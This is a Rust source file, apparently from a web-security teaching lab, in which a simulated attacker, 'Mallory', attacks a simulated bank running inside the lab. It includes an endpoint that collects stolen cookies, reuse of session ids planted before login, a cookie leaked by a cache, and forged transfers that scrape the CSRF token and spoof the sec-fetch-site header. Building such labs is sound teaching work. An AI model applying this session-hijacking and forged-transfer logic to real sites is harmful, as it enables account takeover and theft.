//! What Mallory does at home: her own computer, her own account at the bank, and what victims' browsers send her.

use axum::{
    Router,
    body::{Body, to_bytes},
    extract::{FromRef, Path, Query, Request, State},
    http::{StatusCode, header, request::Builder},
    response::{IntoResponse, Redirect, Response},
};
use serde::{Deserialize, Serialize};
use tower_service::Service;

use super::{
    all::{ATTACKS, Attack},
    lures,
};
use crate::{
    bank::Refused,
    books::{MALLORY, User, note},
    hosts::Hosts,
    lab::Shared,
};

#[derive(Deserialize)]
pub struct Taken {
    cookie: String,
}

/// What a script sent to Mallory, and whose session it opened.
#[derive(Clone, Serialize)]
pub struct Stolen {
    pub cookie: String,
    pub opened: Option<User>,
}

/// What she did in the session of somebody else.
pub struct Used {
    /// The attack that got her in.
    pub attack: &'static str,
    pub says: String,
}

/// Where the script of `script-takes-cookie` sends what it found.
pub async fn take(State(lab): State<Shared>, Query(taken): Query<Taken>) -> StatusCode {
    /// What is kept of it, in characters.
    const LONGEST: usize = 400;
    let mut lab = lab.lock();
    let opened = taken
        .cookie
        .split(';')
        .filter_map(|pair| pair.split_once('='))
        .find_map(|(_, id)| lab.sessions.user_of(id.trim()));
    let cookie = taken.cookie.chars().take(LONGEST).collect();
    note(&mut lab.loot.stolen, Stolen { cookie, opened });
    StatusCode::NO_CONTENT
}

/// Mallory at her own computer. Nothing of what she sends there needs a browser, so no browser's rule holds her back; this
/// program plays her, and the wire doesn't show it.
#[derive(Clone)]
pub struct Mallory {
    pub lab: Shared,
    pub bank: Router,
    pub cache: Router,
}

impl FromRef<Mallory> for Shared {
    fn from_ref(mallory: &Mallory) -> Self {
        mallory.lab.clone()
    }
}

/// The button of a page of hers.
pub async fn act(
    State(mut mallory): State<Mallory>,
    at: Hosts,
    Path(id): Path<String>,
) -> Result<Response, Refused> {
    let attack = ATTACKS.iter().find(|attack| attack.id == id);
    let Some(attack) = attack else { return Ok(StatusCode::NOT_FOUND.into_response()) };
    // She has an account at the bank, and so may write there.
    if let Some(entry) = lures::entry(attack, &at) {
        mallory.lab.lock().write(MALLORY, &entry)?;
        return Ok(Redirect::to(&format!("{}/guestbook", at.bank)).into_response());
    }
    match attack.id {
        "planted-before-login" => mallory.use_planted(attack, &at).await,
        "cache-gives-login" => mallory.be_next(attack, &at).await,
        _ => return Ok(StatusCode::METHOD_NOT_ALLOWED.into_response()),
    }
    Ok(Redirect::to("/").into_response())
}

impl Mallory {
    /// She uses an id that she had planted, if somebody has logged in with it.
    async fn use_planted(&mut self, attack: &Attack, at: &Hosts) {
        let pair = {
            let lab = self.lab.lock();
            let mut planted = lab.loot.planted.iter().rev();
            let victims =
                |id: &&String| lab.sessions.user_of(id).is_some_and(|user| user != MALLORY);
            planted.find(victims).map(|id| format!("{}={id}", lab.defences.cookie_name()))
        };
        if let Some(pair) = pair {
            transfer(&self.lab, &mut self.bank, &at.bank, &pair, attack).await;
        }
    }

    /// She comes to the cache without a cookie, and uses the one that she is given.
    async fn be_next(&mut self, attack: &Attack, at: &Hosts) {
        let Ok(look) = asks("GET", &at.cache, "/statement").body(Body::empty()) else { return };
        let Ok(answer) = self.cache.call(look).await;
        let line = answer.headers().get(header::SET_COOKIE).and_then(|line| line.to_str().ok());
        if let Some(pair) = line.and_then(|line| line.split(';').next()) {
            transfer(&self.lab, &mut self.cache, &at.cache, pair, attack).await;
        }
    }
}

/// Sends money as whoever this cookie opens: reads the bank's page for its token, and sends its form as the page would. Notes what
/// the bank did, and where it refused, why.
async fn transfer(lab: &Shared, bank: &mut Router, origin: &str, pair: &str, attack: &Attack) {
    const LONGEST: usize = 64 * 1024;
    let id = pair.split_once('=').map_or("", |(_, id)| id);
    let user = lab.lock().sessions.user_of(id);
    let Some(user) = user.filter(|user| *user != MALLORY) else { return };
    let Ok(look) = asks("GET", origin, "/").header(header::COOKIE, pair).body(Body::empty()) else {
        return;
    };
    let Ok(page) = bank.call(look).await;
    let page = to_bytes(page.into_body(), LONGEST).await.unwrap_or_default();
    let page = String::from_utf8_lossy(&page);
    let token =
        page.split_once("name=\"token\" value=\"").and_then(|(_, rest)| rest.split('"').next());
    let amount = attack.amount.unwrap_or(0);
    let form = format!("to={MALLORY}&amount={amount}&token={}", token.unwrap_or_default());
    let send = asks("POST", origin, "/transfer")
        .header(header::COOKIE, pair)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(form));
    let Ok(send) = send else { return };
    let Ok(answer) = bank.call(send).await;
    let says = if answer.status().is_redirection() {
        format!("{user} sent {amount} to mallory.")
    } else {
        let why = to_bytes(answer.into_body(), LONGEST).await.unwrap_or_default();
        let why = String::from_utf8_lossy(&why);
        format!("Mallory was in the session of {user}. {amount} did not go: {why}")
    };
    note(&mut lab.lock().loot.used, Used { attack: attack.id, says });
}

/// A client that is no browser says whatever is asked for.
fn asks(method: &str, origin: &str, target: &str) -> Builder {
    let host = origin.trim_start_matches("http://");
    Request::builder()
        .method(method)
        .uri(target)
        .header(header::HOST, host)
        .header("sec-fetch-site", "same-origin")
}
